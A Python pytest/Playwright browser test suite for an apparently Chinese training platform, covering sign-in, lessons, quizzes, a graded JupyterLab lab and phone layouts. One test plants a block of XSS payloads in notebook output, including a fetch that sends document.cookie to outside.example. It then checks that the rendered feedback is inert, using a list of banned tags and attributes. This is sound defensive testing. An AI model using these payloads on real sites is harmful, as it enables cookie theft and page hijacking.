"""Trainees in a real browser: read, quiz, lab with JupyterLab and plant, score; on a phone; and output that means harm."""

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from shixun.commands import doctor
from shixun.commands.walk.bench import Bench, solution
from shixun.commands.walk.day import LAB, LESSON, QUIZ, until
from shixun.commands.walk.html import parse
from shixun.commands.walk.learning import CHECK, ORDER, SEVERAL, SINGLE

expect.set_options(timeout=60_000)  # as long as a busy machine needs
pytestmark = [pytest.mark.browser, pytest.mark.stack]
graded = pytest.mark.skipif(not doctor.sandbox().ok, reason="no sandbox: submissions wait")
COURSE = re.compile("平台入门 · 演示班|First steps, demo class")


@pytest.fixture
def open_lab(stack: Any, person: Any) -> Iterator[Callable[[Any], Bench]]:
    """`open_lab(person)` starts the course's lab as that person does it over HTTP; it is stopped after the test."""
    opened = []

    def start(person: Any) -> Bench:
        bench = Bench(person, f"{stack.url}{_run(person)}/labs/{LAB}")
        bench.clear()
        bench.start(Nothing())
        bench.enter(Nothing())
        opened.append(bench)
        return bench

    yield start
    for bench in opened:
        bench.clear()


class Nothing:
    """A step that nobody reads: what it is told is not kept, what it checks must hold."""

    def saw(self, _name: str, _value: object) -> None:
        pass

    def check(self, holds: bool, problem: str) -> bool:
        assert holds, problem
        return holds


def _run(person: Any) -> str:
    """The demo run's address for a trainee."""
    page = person.get("/c/demo/learn", typed=True)
    return str(next(a.get("href") for a in page.root.all("a") if COURSE.search(a.text)))


def enter(screen: Any, username: str = "xueyuan") -> None:
    """Sign in by the demo's buttons."""
    screen.page.goto("/sign-in")
    screen.page.get_by_role("button", name=re.compile(username)).click()
    screen.page.wait_for_url("**/c/demo/")


def open_course(screen: Any) -> None:
    screen.page.goto("/c/demo/learn")
    screen.page.get_by_role("link", name=COURSE).first.click()
    screen.page.wait_for_url("**/learn/*")


def test_read_and_quiz(stack: Any, screen: Any, shot: Any, person: Any) -> None:
    seen = screen()
    page = seen.page
    enter(seen)
    shot(page, "home")
    open_course(seen)
    shot(page, "course")
    page.locator(f'a[href$="/lessons/{LESSON}"]').first.click()
    expect(page.locator(".presence")).to_have_attribute("data-state", "counting")
    expect(page.locator("article img").first).to_be_visible()
    question = page.locator(f"#check-{CHECK[0]}")
    if question.get_by_role("button").count():
        question.get_by_label(CHECK[1]).check()
        question.get_by_role("button").click()
    expect(page.locator(f"#check-{CHECK[0]} .alert-ok")).to_be_visible()
    shot(page, "lesson")
    page.goto(page.url.split("/lessons/")[0] + f"/quizzes/{QUIZ}")
    page.get_by_role("button", name=re.compile("开始|再来")).or_(
        page.get_by_role("link", name="继续作答")
    ).first.click()
    page.get_by_label(SINGLE[1]).check()
    for text in SEVERAL[1]:
        page.get_by_label(text, exact=True).check()
    for place, text in enumerate(ORDER[1]):
        _move(page, text, place)
    expect(page.locator(f"#saved-{ORDER[0]}")).to_contain_text(re.compile(r"\d\d:\d\d:\d\d"))
    shot(page, "quiz")
    page.get_by_role("button", name="交卷").click()
    expect(page.locator(".score").first).to_contain_text("3/ 3")
    shot(page, "quiz-result")
    stack.shixun("ledger", "seal")
    book = person("zhuren").fetch("GET", f"{stack.url}/c/demo/ledger/export.jsonl").text
    assert LESSON in book, "the lesson that was left is not recorded at once"
    assert (seen.complaints, seen.outside) == ([], [])


def _move(page: Any, text: str, place: int) -> None:
    """Bring an item of the ordering question to its place with its own buttons."""
    for _step in range(5):
        shown = [one.strip() for one in page.locator(".order-text").all_inner_texts()]
        at = shown.index(text)
        if at == place:
            return
        item = page.locator(".order-item").nth(at)
        item.locator('[data-move="up"]' if at > place else '[data-move="down"]').click()
    raise AssertionError(f"{text} does not get to place {place + 1}")


@graded
def test_lab_plant_and_score_in_one_page(screen: Any, shot: Any, person: Any) -> None:
    seen = screen()
    page = seen.page
    enter(seen)
    open_course(seen)
    page.goto(page.url + f"/labs/{LAB}")
    page.get_by_role("button", name="启动实验").click()
    notebook = page.frame_locator("#stage-notebook iframe")
    expect(notebook.locator(".jp-Notebook .jp-Cell").first).to_be_visible(timeout=90_000)
    expect(notebook.locator(".jp-Notebook h1")).to_contain_text("点表逆向")
    shot(page, "lab-notebook")
    page.locator('a[href="#stage-hmi"]').click()
    plant = page.frame_locator("#stage-hmi iframe")
    expect(plant.locator("svg:visible").first).to_be_visible()
    shot(page, "lab-plant")
    bench = Bench(person("xueyuan"), page.url.split("?")[0].split("#")[0])
    bench.enter(Nothing())
    bench.work_through(Nothing())
    page.reload()
    before = page.locator("[data-stream] li").count()
    page.get_by_role("button", name="提交").click()
    expect(page.locator("[data-stream] li")).to_have_count(before + 1)
    expect(page.locator("[data-stream] li").first.locator(".score b")).to_have_text("90", timeout=90_000)
    page.get_by_role("button", name="停止").click(trial=True)  # nothing lies over the lab's buttons
    shot(page, "lab-graded")
    page.locator("[data-stream] li a").first.click()
    expect(page.locator("#cells .card")).to_have_count(5)
    expect(page.locator("iframe.feedback-frame")).to_be_visible()
    shot(page, "result")
    bench.clear()
    assert (seen.complaints, seen.outside) == ([], [])


HARM = """
from IPython.display import display
print("what follows means harm <script>top.document.title='harmed'</script>")
_js = "top.document.title='harmed';fetch('http://outside.example/?'+document.cookie);alert(1)"
_bundles = [
    {"text/html": f"<script>{_js}</script><img src=x onerror=\\"{_js}\\"><div onmouseover=\\"{_js}\\">over</div>"},
    {"text/html": "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe><object data='data:text/html,x'></object>"},
    {"text/html": "<meta http-equiv=refresh content='0;url=http://outside.example/'><base href='http://outside.example/'>"},
    {"text/html": "<form action='http://outside.example/'><input name=p><button>go</button></form><a href='javascript:alert(1)'>go</a>"},
    {"text/html": "<style>body{display:none}@import 'http://outside.example/a.css'</style><link rel=stylesheet href='http://outside.example/b.css'>"},
    {"text/html": "<div style='position:fixed;inset:0;background:url(http://outside.example/c.png)'>cover</div>"},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{_js}\\"><script>{_js}</script><circle r='5'/></svg>"},
    {"text/markdown": "[go](javascript:alert(1)) <img src=x onerror=alert(1)> ![x](http://outside.example/d.png)"},
    {"application/javascript": _js},
    {"text/latex": "$\\\\href{javascript:alert(1)}{x}$"},
]
for _bundle in _bundles:
    display(_bundle, raw=True)
"""


@graded
def test_output_that_means_harm_is_inert(screen: Any, shot: Any, person: Any, open_lab: Any) -> None:
    trainee = person("xueyuan")
    bench = open_lab(trainee)
    notebook = bench.inside().notebook(bench.path)
    for cell in notebook["cells"]:
        if cell["id"] in solution(LAB):
            cell["source"] = solution(LAB)[cell["id"]] + (HARM if cell["id"] == "explore" else "")
    bench.inside().save(bench.path, notebook)
    until("the work at the platform", 20, lambda: bench.inside().ask("GET", "shixun/status")["unsaved"] == [], 0.3)
    bench.hand_in_from_lab(Nothing())
    address = bench.new_submission()
    seen = screen()
    page = seen.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    enter(seen)
    page.goto(address)
    expect(page.locator("iframe.feedback-frame")).to_be_visible(timeout=90_000)
    title = page.title()
    page.locator("iframe.feedback-frame").scroll_into_view_if_needed()
    expect(page.frame_locator("iframe.feedback-frame").get_by_text("means harm <script>").last).to_be_visible()
    page.wait_for_timeout(1000)
    shot(page, "harm", whole=False)
    assert page.title() == title
    frame = page.locator("iframe.feedback-frame").get_attribute("src")
    page.goto(frame)  # by itself, too, as somebody who opens the frame in a tab
    page.wait_for_timeout(1000)
    shot(page, "harm-alone")
    assert "harmed" not in page.title()
    assert (dialogs, seen.outside) == ([], [])
    assert page.url.endswith(frame)
    _nothing_that_acts(trainee.get(frame, typed=True).text)


def _nothing_that_acts(text: str) -> None:
    """Nothing in the stored feedback could act even without the sandbox and the policy."""
    page = parse(text)
    tags = {one.tag for one in page.walk()}
    assert tags & {"script", "iframe", "object", "embed", "form", "base", "input", "foreignobject"} == set()
    attributes = [(one.tag, name, value) for one in page.walk() for name, value in one.attributes.items()]
    assert [found for found in attributes if found[1].startswith("on")] == []
    assert [found for found in attributes if "javascript:" in found[2].lower()] == []
    links = [
        found for found in attributes if found[1] in {"src", "href", "action", "data"} and "outside.example" in found[2]
    ]
    assert [found for found in links if found[0] != "a"] == []
    assert [one for one in page.all("meta") if one.get("http-equiv")] == []


@pytest.mark.parametrize("language", ["zh-CN", "en-US"])
def test_on_a_phone(screen: Any, shot: Any, language: str) -> None:
    seen = screen(phone=True, language=language)
    page, code = seen.page, language[:2]
    enter(seen)
    seen.fits()
    open_course(seen)
    run = page.url
    for name, path in (
        ("course", ""),
        ("lesson", f"/lessons/{LESSON}"),
        ("quiz", f"/quizzes/{QUIZ}"),
        ("lab", f"/labs/{LAB}"),
    ):
        page.goto(run + path)
        assert page.locator("html").get_attribute("lang").startswith(code)
        seen.fits()
        shot(page, f"phone-{code}-{name}")
    results = page.locator('a[href*="/submissions/"]')
    if results.count():
        page.goto(results.first.get_attribute("href"))
        expect(page.locator(".score").first).to_be_visible()
        seen.fits()
        shot(page, f"phone-{code}-score")
    page.goto(run + f"/quizzes/{QUIZ}")
    page.locator("main form button").or_(page.locator('main a[href*="/attempts/"].button')).first.click()
    expect(page.locator(".question").first).to_be_visible()
    seen.fits()
    shot(page, f"phone-{code}-sitting")
    assert (seen.complaints, seen.outside) == ([], [])


ROLES = ["xueyuan", "jiaoshi", "saishi", "zhuren", "guanli"]


@pytest.mark.parametrize("username", ROLES)
def test_every_page_of_the_navigation_fits(screen: Any, shot: Any, person: Any, username: str) -> None:
    """Each role's pages, two links deep: on a phone in English, on a computer in Chinese; none complains, none is too wide."""
    start = "/platform/centers" if username == "guanli" else "/c/demo/"
    addresses = _two_deep(person(username), start)
    for phone, language in ((True, "en-US"), (False, "zh-CN")):
        seen = screen(phone=phone, language=language)
        seen.page.goto("/sign-in")
        seen.page.get_by_role("button", name=re.compile(username)).click()
        seen.page.wait_for_load_state()
        for number, address in enumerate(addresses):
            answer = seen.page.goto(address)
            assert answer.status == 200, address
            seen.fits()
            shot(seen.page, f"{username}-{'phone' if phone else 'wide'}-{number:02d}")
        assert (seen.complaints, seen.outside) == ([], []), addresses


def _two_deep(person: Any, start: str, most: int = 14) -> list[str]:
    """The pages that one reaches from the first one by the navigation, and by the first links of their contents."""
    first = person.get(start, typed=True)
    found = [start, *(a.get("href") for nav in first.root.all("nav", css="site-nav") for a in nav.all("a"))]
    for address in list(dict.fromkeys(found)):
        page = person.get(address, typed=True)
        main = page.root.first("main")
        links = [a.get("href").split("#")[0] for a in main.all("a")] if main is not None else []
        found += [one for one in links if one.startswith("/") and not re.search(r"\.(csv|json|jsonl)$|/labs/", one)][:4]
    return list(dict.fromkeys(found))[:most]
